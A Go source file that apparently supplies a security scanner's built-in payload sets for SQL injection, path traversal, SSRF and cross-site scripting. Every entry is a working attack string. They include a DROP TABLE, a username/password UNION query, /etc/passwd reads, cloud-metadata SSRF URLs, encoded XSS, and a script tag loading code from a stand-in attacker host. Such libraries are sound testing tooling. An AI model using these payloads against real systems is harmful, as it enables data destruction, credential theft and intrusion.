package payloads

// Built-in set IDs.
const (
	SetSQLInjection  = "sql-injection"
	SetPathTraversal = "path-traversal"
	SetSSRF          = "ssrf"
	SetXSS           = "xss"
)

func builtinSets() []Set {
	return []Set{
		{
			ID:       SetSQLInjection,
			Name:     "SQL Injection",
			Category: CategoryInjection,
			Payloads: []string{
				`' OR '1'='1`,
				`' OR '1'='1' --`,
				`" OR "1"="1`,
				`'; DROP TABLE users --`,
				`1' AND SLEEP(5) --`,
				`1 UNION SELECT NULL,NULL,NULL --`,
				`' UNION SELECT username,password FROM users --`,
				`admin'--`,
				`1' ORDER BY 10 --`,
				`1; WAITFOR DELAY '0:0:5' --`,
				`' AND 1=CONVERT(int,(SELECT @@version)) --`,
				`' OR 1=1 LIMIT 1 OFFSET 0 --`,
			},
		},
		{
			ID:       SetPathTraversal,
			Name:     "Path Traversal",
			Category: CategoryTraversal,
			Payloads: []string{
				`../../../etc/passwd`,
				`..\..\..\windows\win.ini`,
				`....//....//....//etc/passwd`,
				`%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd`,
				`..%252f..%252f..%252fetc%252fpasswd`,
				`/etc/passwd%00`,
				`....\/....\/....\/etc/passwd`,
				`..%c0%af..%c0%af..%c0%afetc/passwd`,
				`/var/log/apache2/access.log`,
				`file:///etc/passwd`,
			},
		},
		{
			ID:       SetSSRF,
			Name:     "Server-Side Request Forgery",
			Category: CategorySSRF,
			Payloads: []string{
				`http://127.0.0.1/`,
				`http://localhost/admin`,
				`http://169.254.169.254/latest/meta-data/`,
				`http://[::1]/`,
				`http://0.0.0.0:80/`,
				`http://2130706433/`,
				`http://017700000001/`,
				`http://metadata.google.internal/computeMetadata/v1/`,
				`gopher://127.0.0.1:6379/_INFO`,
				`dict://127.0.0.1:11211/stats`,
			},
		},
		{
			ID:       SetXSS,
			Name:     "Cross-Site Scripting",
			Category: CategoryXSS,
			Payloads: []string{
				`<script>alert(1)</script>`,
				`<img src=x onerror=alert(1)>`,
				`<svg onload=alert(1)>`,
				`javascript:alert(1)`,
				`"><script>alert(1)</script>`,
				`'><script>alert(1)</script>`,
				`<body onload=alert(1)>`,
				`<iframe src="javascript:alert(1)">`,
				`<input onfocus=alert(1) autofocus>`,
				`<details open ontoggle=alert(1)>`,
				`<marquee onstart=alert(1)>`,
				`{{constructor.constructor('alert(1)')()}}`,
				`<a href="javascript:alert(1)">click</a>`,
				`<img src=x onerror="eval(atob('YWxlcnQoMSk='))">`,
				`<script src=//evil.example/x.js></script>`,
			},
		},
	}
}
